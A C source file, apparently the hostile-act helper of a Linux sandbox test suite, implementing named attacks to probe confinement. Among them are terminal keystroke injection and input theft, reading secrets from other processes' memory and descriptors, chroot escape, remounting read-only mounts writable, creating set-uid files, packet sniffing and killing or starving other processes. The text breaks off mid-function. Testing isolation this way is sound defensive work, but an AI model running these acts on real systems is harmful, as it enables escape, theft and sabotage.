// SPDX-License-Identifier: MIT
/*
 * attack [-32] NAME [ARGUMENT...]: one hostile act by a program that runs anywhere; table.py tells what each is for.
 * With -32 its system calls are those of the 32-bit ABI of x86-64. What it says of itself counts for nothing: it
 * carries out what it could read on standard output, or leaves a trace that is seen from outside; where that is
 * something it holds, it says "ready" when it has tried, and waits for the end of its standard input.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <linux/vm_sockets.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int narrow; /* -32 */
static char room[65536] __attribute__((aligned(4096))); /* below 4 GB, as the 32-bit ABI needs it */
static char bait[64] = "BAIT="; /* where "victim" keeps what it was given */

struct call {
	int wide, narrow;
};

static long sys6(struct call number, long a, long b, long c, long d, long e, long f)
{
	if (!narrow)
		return syscall(number.wide, a, b, c, d, e, f);
	long result = -ENOSYS;
#ifdef __x86_64__
	register long r8 __asm__("r8") = 0;
	__asm__ volatile("push %%rbp\n\tmov %7, %%rbp\n\tint $0x80\n\tpop %%rbp"
			 : "=a"(result), "+r"(r8)
			 : "a"(number.narrow), "b"(a), "c"(b), "d"(c), "S"(d), "r"(f), "D"(e)
			 : "memory", "r9", "r10", "r11");
#endif
	if ((int)result < 0 && (int)result > -4096) {
		errno = -(int)result;
		return -1;
	}
	return (int)result;
}

#define CALL(name, number32, ...) CALL_(name, number32, __VA_ARGS__, 0, 0, 0, 0, 0, 0)
#define CALL_(name, number32, a, b, c, d, e, f, ...) \
	sys6((struct call){SYS_##name, number32}, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

static int hold(void)
{
	char letter;
	if (write(1, "ready\n", 6) == 6)
		while (read(0, &letter, 1) > 0)
			;
	return 0;
}

/* All of it to standard output. */
static void carry_out(const void *data, size_t size)
{
	while (size) {
		ssize_t part = write(1, data, size);
		if (part <= 0)
			return;
		data = (const char *)data + part, size -= (size_t)part;
	}
}

static void carry_file(int fd)
{
	char text[4096];
	for (ssize_t part; fd >= 0 && (part = read(fd, text, sizeof text)) > 0;)
		carry_out(text, (size_t)part);
}

/* The processes that are named; with "near", also those that a process namespace of our own has at its beginning. */
static int each_process(char **named, int (*act)(pid_t pid, char **rest), char **rest)
{
	for (; *named; named++) {
		if (strcmp(*named, "near"))
			act(atoi(*named), rest);
		for (pid_t pid = 1; !strcmp(*named, "near") && pid < 20; pid++)
			if (pid != getpid())
				act(pid, rest);
	}
	return 0;
}

/*** Terminal ***/

static int sti(char **v)
{
	unsigned long upper = v[1] ? strtoul(v[1], NULL, 0) << 32 : 0;
	for (char *letter = v[0]; *letter; letter++) {
		*room = *letter;
		CALL(ioctl, 54, 0, upper | TIOCSTI, room);
	}
	return 0;
}

/* N_NULL, for a second: others would be loaded as modules. */
static int discipline(char **v)
{
	(void)v;
	*(int *)room = 27;
	if (CALL(ioctl, 54, 0, TIOCSETD, room) < 0 && CALL(ioctl, 54, 0, 1UL << 32 | TIOCSETD, room) < 0)
		return 1;
	usleep(999999);
	*(int *)room = 0;
	return CALL(ioctl, 54, 0, TIOCSETD, room) < 0;
}

static int tioclinux(char **v)
{
	(void)v;
	for (unsigned char code = 0; code < 20; code++)
		syscall(SYS_ioctl, 0, (code & 1 ? 1UL << 32 : 0) | TIOCLINUX, &code);
	return 0;
}

/* Out of the session, so that no job control applies; then what is typed is ours. */
static int steal(char **v)
{
	(void)v;
	char text[256];
	if (fork())
		return 0;
	setsid();
	int fd = open(v[0], O_WRONLY | O_CREAT | O_APPEND, 0600);
	struct pollfd polled = {.fd = 0, .events = POLLIN};
	for (int i = 0; i < 40; i++) {
		poll(&polled, 1, 50);
		if (polled.revents & POLLIN) {
			ssize_t size = read(0, text, sizeof text);
			if (size > 0 && write(fd, text, (size_t)size) < 0)
				break;
		}
	}
	return 0;
}

static int spoil(char **v)
{
	(void)v;
	struct termios how;
	struct winsize tiny = {1, 1, 0, 0};
	signal(SIGTTOU, SIG_IGN);
	tcgetattr(0, &how);
	cfmakeraw(&how);
	tcsetattr(0, TCSANOW, &how);
	ioctl(0, TIOCSWINSZ, &tiny);
	fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
	return 0;
}

static int foreground(char **v)
{
	(void)v;
	signal(SIGTTOU, SIG_IGN);
	pid_t pid = fork();
	if (!pid) {
		setpgid(0, 0);
		sleep(2);
		_exit(0);
	}
	setpgid(pid, pid);
	tcsetpgrp(0, pid);
	return 0;
}

static int halt_output(char **v)
{
	(void)v;
	tcflow(0, TCOOFF);
	return 0;
}

/*** What came in ***/

/* A key of the session's, by its description. */
static int key(char **v)
{
	long found = CALL(keyctl, 288, 10, -3, strcpy(room, "user"), strcpy(room + 64, v[0]), 0);
	long size = found > 0 ? CALL(keyctl, 288, 11, found, room + 256, 256) : -1;
	if (size > 0)
		carry_out(room + 256, (size_t)size);
	return 0;
}

/* keep-key NAME TEXT COMMAND...: what a caller does who has a key. */
static int keep_key(char **v)
{
	if (syscall(SYS_keyctl, 1, 0) < 0 || syscall(SYS_add_key, "user", v[0], v[1], strlen(v[1]), -3) < 0)
		return 99;
	execvp(v[2], v + 2);
	return 127;
}

/* fill-keys COUNT NAME: of the user's, who may have so many. */
static int fill_keys(char **v)
{
	for (int i = atoi(v[0]); i > 0; i--) {
		snprintf(room, 64, "%s%d", v[1], i);
		CALL(add_key, 286, strcpy(room + 64, "user"), room, room, 1, -3);
	}
	return hold();
}

static int groups(char **v)
{
	if (!strcmp(v[0], "signal")) {
		signal(SIGUSR1, SIG_IGN);
		kill(0, SIGUSR1);
		kill(-getpgrp(), SIGUSR1);
	} else if (!strcmp(v[0], "nice"))
		setpriority(PRIO_PGRP, 0, getpriority(PRIO_PROCESS, 0) + 5);
	else
		syscall(SYS_ioprio_set, 2, 0, 3 << 13);
	return 0;
}

/*** Other processes ***/

static int starve_one(pid_t pid, char **rest)
{
	(void)rest;
	struct sched_param none = {0};
	struct {
		uint32_t size, policy;
		uint64_t more[6];
	} idle = {48, SCHED_IDLE, {0}};
	unsigned long first = 1;
	CALL(sched_setaffinity, 241, pid, sizeof first, &first);
	setpriority(PRIO_PROCESS, (id_t)pid, 15);
	setpriority(PRIO_PGRP, (id_t)pid, 16);
	CALL(sched_setscheduler, 156, pid, SCHED_IDLE, &none);
	return (int)CALL(sched_setattr, 351, pid, &idle, 0);
}

/* As little of the processor as there is: for the processes that are named, or for all of the user's that we see. */
static int starve(char **v)
{
	each_process(v, starve_one, NULL);
	if (v[0] && !strcmp(v[0], "near"))
		setpriority(PRIO_USER, getuid(), 17);
	return hold();
}

/* What comes from outside as a signal looks like a stop to whoever may trace us. */
static int traced(char **v)
{
	bool may = !ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	if (write(1, "ready\n", 6) == 6 && may)
		raise(atoi(v[0]));
	return pause();
}

/* A child traces it, so that its end is the child's to hear of before all others, and the child does not. */
static int traced_below(char **v)
{
	pid_t self = getpid();
	signal(SIGTERM, SIG_IGN);
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	if (!fork()) {
		ptrace(PTRACE_SEIZE, self, NULL, NULL);
		return execvp(v[0], v);
	}
	while (pause())
		;
	return 0;
}

/* What it becomes has no tie to the process that runs it. */
static int untied(char **v)
{
	prctl(PR_SET_PDEATHSIG, 0);
	return execvp(v[0], v);
}

static int become(void *v)
{
	char **words = v;
	return execvp(words[0], words);
}

/* The same by a thread that is not the first, to which no death signal belongs. */
static int untied_thread(char **v)
{
	static char stack[65536] __attribute__((aligned(16)));
	clone(become, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, v);
	while (pause())
		;
	return 0;
}

/* A file of processes that live for a moment, and are there when we begin. */
static int glance(char **v)
{
	char path[32];
	for (int i = 0; i < 4000; i++) {
		snprintf(path, sizeof path, "/proc/%d/%.16s", 2 + i % 4, v[0]);
		int fd = open(path, O_RDONLY);
		carry_file(fd);
		close(fd);
	}
	return 0;
}

/* The same of all that come into our process namespace, until the end of standard input: where WORD is in it, it is carried out. */
static int stare(char **v)
{
	static const char *const files[] = {"cmdline", "environ"};
	struct pollfd end = {0, POLLIN, 0};
	char path[32];
	if (write(1, "ready\n", 6) < 0)
		return 1;
	while (!poll(&end, 1, 0))
		for (int i = 0; i < 400; i++) {
			snprintf(path, sizeof path, "/proc/%d/%s", 2 + i / 2, files[i % 2]);
			int fd = open(path, O_RDONLY);
			ssize_t got = fd < 0 ? 0 : read(fd, room, sizeof room);
			if (got > 0 && memmem(room, (size_t)got, v[0], strlen(v[0])))
				puts(v[0]), fflush(stdout);
			close(fd);
		}
	return 0;
}

/* Flags of standard streams, which are the caller's, too. */
static int spoil_flags(char **v)
{
	(void)v;
	for (int fd = 0; fd < 3; fd++) {
		fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) ^ (O_NONBLOCK | O_APPEND));
		fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_DIRECT);
	}
	return 0;
}

/* A process with something to take: in its memory, in descriptor 9, as its name. */
static int victim(char **v)
{
	strncat(bait, v[0], 48);
	memset(v[0], 'x', strlen(v[0]));
	return hold();
}

static void scan(const char *text, ssize_t size)
{
	for (const char *at = text; size > 0 && (at = memmem(at, (size_t)(text + size - at), "BAIT=", 5)); at++)
		carry_out(at, (size_t)(text + size - at) < 64 ? (size_t)(text + size - at) : 64);
}

static ssize_t peek(const char *how, pid_t pid, int memory, unsigned long from, char *to, size_t size)
{
	if (!strcmp(how, "vm")) {
		struct iovec near = {to, size}, far = {(void *)from, size};
		return process_vm_readv(pid, &near, 1, &far, 1, 0);
	}
	if (!strcmp(how, "ptrace")) {
		for (size_t i = 0; i < size; i += sizeof(long)) {
			errno = 0;
			long word = ptrace(PTRACE_PEEKDATA, pid, from + i, NULL);
			if (errno)
				return -1;
			memcpy(to + i, &word, sizeof word);
		}
		return (ssize_t)size;
	}
	return pread(memory, to, size, (off_t)from);
}

/* The memory of a process: known places by number, and all of it where its map can be read. */
static int look_into(pid_t pid, char **v)
{
	static char part[1 << 16];
	char path[64], row[512];
	unsigned long from, to;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDONLY);
	if (!strcmp(v[0], "ptrace") && ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		return 0;
	if (!strcmp(v[0], "ptrace"))
		waitpid(pid, NULL, __WALL);
	scan(part, peek(v[0], pid, memory, (unsigned long)bait, part, sizeof bait));
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	while (maps && fgets(row, sizeof row, maps))
		if (sscanf(row, "%lx-%lx rw", &from, &to) == 2 && strstr(row, "[stack]"))
			for (; from < to; from += sizeof part)
				scan(part, peek(v[0], pid, memory, from, part, to - from < sizeof part ? to - from : sizeof part));
	if (maps)
		fclose(maps);
	close(memory);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 0;
}

static int memory(char **v)
{
	return each_process(v + 1, look_into, v);
}

static int seize_one(pid_t pid, char **rest)
{
	(void)rest;
	ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	return 0;
}

static int seize(char **v)
{
	each_process(v, seize_one, NULL);
	return hold();
}

static int take_descriptor(pid_t pid, char **rest)
{
	(void)rest;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; pidfd >= 0 && fd < 12; fd++) {
		int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		struct stat st;
		if (taken >= 0 && !fstat(taken, &st) && S_ISREG(st.st_mode))
			carry_file(taken);
		close(taken);
	}
	close(pidfd);
	return 0;
}

static int getfd(char **v)
{
	return each_process(v, take_descriptor, NULL);
}

/* By each call that can. */
static void hit(pid_t pid)
{
	kill(pid, SIGKILL);
	syscall(SYS_tkill, pid, SIGKILL);
	syscall(SYS_tgkill, pid, pid, SIGKILL);
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
	close(pidfd);
}

static int signals(char **v)
{
	for (; *v; v++)
		hit(atoi(*v));
	return 0;
}

/* A directory of /proc names a process as a pidfd does (pidfd_send_signal(2)). */
static int signal_directory(char **v)
{
	int directory = open(v[0], O_RDONLY | O_DIRECTORY);
	syscall(424 /* pidfd_send_signal */, directory, SIGKILL, NULL, 0);
	return 0;
}

/* overwrite TEXT INODE LAST: the program with this number, of whatever process, once none runs it any more. */
static int overwrite(char **v)
{
	char path[64];
	int held = -1;
	struct stat st;
	for (int pid = 1, last = atoi(v[2]); pid < last && held < 0; pid++) {
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		held = pid == getpid() ? -1 : open(path, O_RDONLY);
		if (held >= 0 && (fstat(held, &st) || st.st_ino != strtoul(v[1], NULL, 10))) {
			close(held);
			held = -1;
		}
	}
	if (fork())
		return 0;
	setsid();
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (int round = 0; round < 60; round++, usleep(10000)) {
		int fd = open(path, O_WRONLY | O_APPEND);
		if (fd >= 0)
			return write(fd, v[0], strlen(v[0])) < 0;
	}
	return 0;
}

/*** Objects of the kernel's ***/

static int shared_memory(char **v)
{
	(void)v;
	struct shmid_ds about;
	int last = shmctl(0, 14 /* SHM_INFO */, &about);
	for (int i = 0; i <= last; i++) {
		int id = shmctl(i, 13 /* SHM_STAT */, &about);
		char *text = id >= 0 ? shmat(id, NULL, SHM_RDONLY) : (char *)-1;
		if (text != (char *)-1)
			carry_out(text, strnlen(text, 64));
	}
	return 0;
}

static int keep_shared(char **v)
{
	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
	strcpy(shmat(id, NULL, 0), v[0]);
	hold();
	return shmctl(id, IPC_RMID, NULL);
}

static int queue(char **v)
{
	mqd_t from = mq_open(v[0], O_RDONLY | O_NONBLOCK);
	ssize_t size = from >= 0 ? mq_receive(from, room, sizeof room, NULL) : -1;
	if (size > 0)
		carry_out(room, (size_t)size);
	return 0;
}

static int keep_queue(char **v)
{
	mqd_t to = mq_open(v[0], O_RDWR | O_CREAT, 0600, NULL);
	if (to < 0 || mq_send(to, v[1], strlen(v[1]), 0))
		return 99;
	hold();
	return mq_unlink(v[0]);
}

/* As many queues as the user may have. */
static int fill_queues(char **v)
{
	for (int i = atoi(v[0]); i > 0; i--) {
		snprintf(room, sizeof room, "/%s.%d", v[1], i);
		if (mq_open(room, O_RDWR | O_CREAT, 0600, NULL) < 0)
			break;
	}
	hold();
	for (int i = atoi(v[0]); i > 0; i--) {
		snprintf(room, sizeof room, "/%s.%d", v[1], i);
		mq_unlink(room);
	}
	return 0;
}

/* leave-memory BYTES: in no process, but in a segment of System V. */
static int leave_memory(char **v)
{
	size_t size = strtoul(v[0], NULL, 0);
	char *at = shmat(shmget(IPC_PRIVATE, size, IPC_CREAT | 0600), NULL, 0);
	if (at != (char *)-1)
		memset(at, 1, size);
	return 0;
}

/* A unix socket by its path, or without one: @NAME. What is given is sent, what comes is carried out. */
static int reach(char **v)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(v[0]));
	for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type += type == SOCK_STREAM ? 1 : 3) {
		int fd = socket(AF_UNIX, type, 0);
		strncpy(address.sun_path, v[0], sizeof address.sun_path - 1);
		if (*v[0] == '@')
			address.sun_path[0] = '\0';
		if (!connect(fd, (void *)&address, size)) {
			struct timeval moment = {1, 0};
			setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &moment, sizeof moment);
			if (write(fd, "taken", 5) == 5)
				carry_file(fd);
		}
		close(fd);
	}
	return 0;
}

static int reach_port(char **v)
{
	int datagrams = v[1] && !strcmp(v[1], "udp");
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(v[0])), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
	if (!connect(fd, (void *)&address, sizeof address) && write(fd, "taken", 5) == 5 && !datagrams)
		carry_file(fd);
	return 0;
}

/* All packets of the loopback, for as long as our standard input is open. */
static int sniff(char **v)
{
	(void)v;
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_UDP), link = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct pollfd polled[] = {{0, POLLIN, 0}, {raw, POLLIN, 0}, {link, POLLIN, 0}};
	if (write(1, "ready\n", 6) != 6)
		return 1;
	while (poll(polled, 3, 10000) > 0 && !polled[0].revents)
		for (int i = 1; i < 3; i++) {
			ssize_t size = polled[i].revents ? recv(polled[i].fd, room, sizeof room, 0) : 0;
			carry_out(room, size > 0 ? (size_t)size : 0);
		}
	return 0;
}

/* Who has which socket, with the names of those that have one. */
static int diagnose(char **v)
{
	(void)v;
	struct {
		struct nlmsghdr header;
		struct unix_diag_req request;
	} ask = {{sizeof ask, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 1, 0},
		{.sdiag_family = AF_UNIX, .udiag_states = ~0U, .udiag_show = UDIAG_SHOW_NAME}};
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG);
	struct timeval moment = {0, 200000};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &moment, sizeof moment);
	if (send(fd, &ask, sizeof ask, 0) != sizeof ask)
		return 1;
	for (ssize_t size; (size = recv(fd, room, sizeof room, 0)) > 0;) {
		carry_out(room, (size_t)size);
		if (((struct nlmsghdr *)room)->nlmsg_type == NLMSG_DONE)
			break;
	}
	return 0;
}

static int events(char **v)
{
	(void)v;
	struct sockaddr_nl all = {.nl_family = AF_NETLINK, .nl_groups = ~0U};
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT);
	bind(fd, (void *)&all, sizeof all);
	struct pollfd polled[] = {{0, POLLIN, 0}, {fd, POLLIN, 0}};
	if (write(1, "ready\n", 6) != 6)
		return 1;
	while (poll(polled, 2, 10000) > 0 && !polled[0].revents) {
		ssize_t size = recv(fd, room, sizeof room, 0);
		carry_out(room, size > 0 ? (size_t)size : 0);
	}
	return 0;
}

static int kernel_log(char **v)
{
	(void)v;
	static char text[1 << 20];
	long size = CALL(syslog, 103, 3, text, sizeof text);
	carry_out(text, size > 0 ? (size_t)size : 0);
	carry_file(open("/dev/kmsg", O_RDONLY | O_NONBLOCK));
	return 0;
}

/*** Files ***/

/* open-handle TYPE HEX DIR: the file that was named to us by number. */
static int open_handle(char **v)
{
	struct {
		unsigned bytes;
		int type;
		unsigned char data[128];
	} handle = {.bytes = (unsigned)strlen(v[1]) / 2, .type = atoi(v[0])};
	for (unsigned i = 0; i < handle.bytes; i++)
		sscanf(v[1] + 2 * i, "%2hhx", &handle.data[i]);
	if (narrow)
		memcpy(room, &handle, sizeof handle);
	carry_file((int)CALL(open_by_handle_at, 342, open(v[2], O_RDONLY), narrow ? (void *)room : (void *)&handle, O_RDONLY));
	return 0;
}

/* Set-uid files in the working directory, by every call that makes or changes one. */
static int suid(char **v)
{
	(void)v;
	const mode_t mode = 06755;
	umask(0);
	int fd = open("s0", O_RDWR | O_CREAT, 0755);
	CALL(fchmod, 94, fd, mode);
	CALL(chmod, 15, strcpy(room, "s0"), mode);
	CALL(fchmodat, 306, AT_FDCWD, room, mode);
	sys6((struct call){452, 452}, AT_FDCWD, (long)room, mode, 0, 0, 0);
	CALL(open, 5, strcpy(room, "s1"), O_RDWR | O_CREAT, mode);
	CALL(openat, 295, AT_FDCWD, strcpy(room, "s2"), O_RDWR | O_CREAT, mode);
	CALL(creat, 8, strcpy(room, "s3"), mode);
	CALL(mknod, 14, strcpy(room, "s4"), S_IFREG | mode, 0);
	CALL(mknodat, 297, AT_FDCWD, strcpy(room, "s5"), S_IFREG | mode, 0);
	fd = (int)CALL(open, 5, strcpy(room, "."), O_TMPFILE | O_RDWR, mode);
	snprintf(room, sizeof room, "/proc/self/fd/%d", fd);
	linkat(AT_FDCWD, room, AT_FDCWD, "s7", AT_SYMLINK_FOLLOW);
	CALL(mkdir, 39, strcpy(room, "s8"), 0755);
	CALL(chmod, 15, room, 02755);
	return 0;
}

/* The mode lies in memory, where no filter looks. */
static int suid_openat2(char **v)
{
	(void)v;
	uint64_t how[3] = {O_CREAT | O_RDWR, 06755, 0};
	memcpy(room + 64, how, sizeof how);
	sys6((struct call){437, 437}, AT_FDCWD, (long)strcpy(room, "s6"), (long)room + 64, sizeof how, 0, 0);
	return 0;
}

static int escape_chroot(char **v)
{
	mkdir("jail", 0755);
	CALL(chroot, 61, strcpy(room, "jail"));
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	CALL(chroot, 61, strcpy(room, "."));
	carry_file(open(v[0], O_RDONLY));
	return 0;
}

/* Whatever makes a read-only mount writable. */
static int remount(char **v)
{
	struct {
		uint64_t set, clear, propagation, userns;
	} attributes = {.clear = 1 /* read-only */};
	mount("none", v[0], NULL, MS_REMOUNT | MS_BIND, NULL);
	mount("none", v[0], NULL, MS_REMOUNT, NULL);
	for (int clone = 0; clone < 2; clone++) {
		int tree = (int)syscall(428 /* open_tree */, AT_FDCWD, v[0], clone ? 1 | 0x8000 : 0);
		syscall(442 /* mount_setattr */, tree, "", AT_EMPTY_PATH | 0x8000, &attributes, sizeof attributes);
		if (clone) {
			int fd = openat(tree, v[1], O_WRONLY | O_APPEND);
			if (fd >= 0 && write(fd, "evil", 4) == 4)
				close(fd);
		}
	}
	snprintf(room, sizeof room, "%s/%s", v[0], v[1]);
	int fd = open(room, O_WRONLY | O_APPEND);
	if (fd >= 0 && write(fd, "evil", 4) == 4)
		close(fd);
	return 0;
}

/* uncover FILE MOUNT...: what lies below mounts. */
static int uncover(char **v)
{
	for (char **at = v + 1; *at; at++) {
		umount2(*at, MNT_DETACH);
		umount2(*at, 0);
	}
	carry_file(open(v[0], O_RDONLY));
	return 0;
}

static int bind_over(char **v)
{
	if (mount(v[0], v[1], NULL, MS_BIND | MS_REC, NULL) && mount("none", v[1], "tmpfs", 0, NULL))
		return 1;
	snprintf(room, sizeof room, "%s/mounted", v[1]);
	return open(room, O_WRONLY | O_CREAT, 0644) < 0;
}

/* Two names change places until standard input ends. */
static int swap(char **v)
{
	struct pollfd polled = {0, POLLIN, 0};
	if (write(1, "ready\n", 6) != 6)
		return 1;
	while (poll(&polled, 1, 0) == 0)
		for (int i = 0; i < 50; i++)
			syscall(SYS_renameat2, AT_FDCWD, v[0], AT_FDCWD, v[1], 2 /* exchange */);
	return 0;
}

/* The name of an interface by its number, by way of standard input. */
static int interface(char **v)
{
	struct ifreq request = {.ifr_ifindex = atoi(v[0])};
	if (!ioctl(0, SIOCGIFNAME, &request))
		carry_out(request.ifr_name, strlen(request.ifr_name));
	return 0;
}

static int rename_one(char **v)
{
	return rename(v[0], v[1]) < 0;
}

/* Who opens a file of a directory is told, by its name. */
static int watch(char **v)
{
	struct pollfd polled[] = {{0, POLLIN, 0}, {inotify_init(), POLLIN, 0}};
	inotify_add_watch(polled[1].fd, v[0], IN_OPEN);
	if (write(1, "ready\n", 6) != 6)
		return 1;
	while (poll(polled, 2, 10000) > 0 && !polled[0].revents)
		carry_out(room, (size_t)read(polled[1].fd, room, sizeof room));
	return 0;
}

/* Who writes to a file that can be read waits for us. */
static int lease(char **v)
{
	CALL(fcntl, 221, open(v[0], O_RDONLY), F_SETLEASE, F_RDLCK);
	return hold();
}

/* As lease, but for who makes or removes files of a directory. */
static int delegation(char **v)
{
	static struct {
		uint32_t flags;
		uint16_t type, pad;
	} read_only = {0, F_RDLCK, 0};
	CALL(fcntl, 221, open(v[0], O_RDONLY | O_DIRECTORY), 1040, &read_only);
	return hold();
}

static const char *sign;

static void leave_sign(int signal)
{
	(void)signal;
	close(open(sign, O_CREAT | O_WRONLY, 0644));
}

/* By a signal, for which a file is made. */
static int notice(char **v)
{
	sign = v[1];
	signal(SIGIO, leave_sign);
	CALL(fcntl, 221, open(v[0], O_RDONLY | O_DIRECTORY), F_NOTIFY, DN_ACCESS | DN_MODIFY | DN_CREATE | DN_MULTISHOT);
	return hold();
}

static int hint(char **v)
{
	static uint64_t short_lived = 2;
	CALL(fcntl, 221, open(v[0], O_RDONLY), 1036, &short_lived);
	return hold();
}

/* Names that are hidden where the directory is a layer of an overlay. */
static int whiteouts(char **v)
{
	for (int i = 0; v[i]; i++) {
		CALL(mknod, 14, strcpy(room, v[i]), S_IFCHR | 0644, 0);
		CALL(mknodat, 297, AT_FDCWD, room, S_IFCHR | 0644, 0);
		close(open(room, O_CREAT | O_EXCL | O_WRONLY, 0644));
		CALL(renameat2, 353, AT_FDCWD, room, AT_FDCWD, strcpy(room + 4096, "moved"), RENAME_WHITEOUT);
	}
	return 0;
}

static int open_device(char **v)
{
	open(v[0], O_RDWR);
	return hold();
}

/*** Kernel surface ***/

static int run_unshare(char **v)
{
	CALL(unshare, 310, strtoul(v[0], NULL, 0));
	return hold();
}

static int run_clone(char **v)
{
	unsigned long flags = strtoul(v[0], NULL, 0);
	pid_t pid = (pid_t)CALL(clone, 120, flags | SIGCHLD, 0, 0, 0, 0);
	if (!pid)
		return hold();
	return pid < 0 ? hold() : (waitpid(pid, NULL, 0), 0);
}

static int run_clone3(char **v)
{
	uint64_t args[11] = {strtoul(v[0], NULL, 0), 0, 0, 0, SIGCHLD};
	memcpy(room, args, sizeof args);
	pid_t pid = (pid_t)sys6((struct call){435, 435}, (long)room, 88, 0, 0, 0, 0);
	if (!pid)
		return hold();
	return pid < 0 ? hold() : (waitpid(pid, NULL, 0), 0);
}

/* With what a new user namespace gives: a mount of a name that is seen from outside. */
static int new_mount(char **v)
{
	CALL(unshare, 310, CLONE_NEWUSER | CLONE_NEWNS);
	if (!strcmp(v[0], "old"))
		CALL(mount, 21, strcpy(room, v[1]), strcpy(room + 512, v[2]), strcpy(room + 1024, "tmpfs"), 0, 0);
	else {
		int fs = (int)sys6((struct call){430, 430}, (long)strcpy(room, "tmpfs"), 0, 0, 0, 0, 0);
		sys6((struct call){431, 431}, fs, 1, (long)strcpy(room, "source"), (long)strcpy(room + 64, v[1]), 0, 0);
		sys6((struct call){431, 431}, fs, 6, 0, 0, 0, 0);
		int mount = (int)sys6((struct call){432, 432}, fs, 0, 0, 0, 0, 0);
		sys6((struct call){429, 429}, mount, (long)strcpy(room, ""), AT_FDCWD, (long)strcpy(room + 64, v[2]), 4, 0);
	}
	return hold();
}

/* A group NAME in ours of each hierarchy, by namespaces of our own; a uid that is mapped to none is still whose files they are. */
static int make_groups(char **v)
{
	char row[4096], *save;
	FILE *list = fopen("/proc/self/cgroup", "r");
	unshare(CLONE_NEWUSER);
	unshare(CLONE_NEWNS | CLONE_NEWCGROUP);
	while (list && fgets(row, sizeof row, list)) {
		char *controllers = strchr(row, ':') + 1;
		*strchr(controllers, ':') = '\0';
		long fs = syscall(430, *controllers ? "cgroup" : "cgroup2", 0);
		for (char *word = strtok_r(controllers, ",", &save); word; word = strtok_r(NULL, ",", &save)) {
			bool named = !strncmp(word, "name=", 5);
			syscall(431, fs, named, named ? "name" : word, named ? word + 5 : NULL, 0);
		}
		syscall(431, fs, 6, NULL, NULL, 0);
		mkdirat((int)syscall(432, fs, 0, 0), v[0], 0755);
	}
	return 0;
}

static int netfilter(char **v)
{
	(void)v;
	unshare(CLONE_NEWUSER | CLONE_NEWNET);
	socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
	return 0;
}

static int bpf_map(char **v)
{
	(void)v;
	union bpf_attr *about = (void *)room;
	about->map_type = BPF_MAP_TYPE_ARRAY, about->key_size = 4, about->value_size = 4, about->max_entries = 1;
	CALL(bpf, 357, BPF_MAP_CREATE, about, sizeof *about);
	return hold();
}

static int perf(char **v)
{
	(void)v;
	struct perf_event_attr *about = (void *)room;
	about->type = PERF_TYPE_SOFTWARE, about->size = sizeof *about, about->config = PERF_COUNT_SW_TASK_CLOCK;
	about->exclude_kernel = 1, about->exclude_hv = 1;
	CALL(perf_event_open, 336, about, 0, -1, -1, 0);
	return hold();
}

static int page_faults(char **v)
{
	(void)v;
	CALL(userfaultfd, 374, 1 /* user mode only */);
	return hold();
}

static int ring(char **v)
{
	(void)v;
	CALL(io_uring_setup, 425, 4, room);
	return hold();
}

static int fanotify(char **v)
{
	(void)v;
	CALL(fanotify_init, 338, 0x200 /* FAN_REPORT_FID: needs no privilege */, O_RDONLY);
	return hold();
}

static int persona(char **v)
{
	CALL(personality, 136, strtoul(v[0], NULL, 0));
	return hold();
}

static int core_limit(char **v)
{
	(void)v;
	struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY}, none = {0, 0};
	setrlimit(RLIMIT_CORE, &all);
	setrlimit(RLIMIT_CORE, &none);
	memset(room, 0, 16);
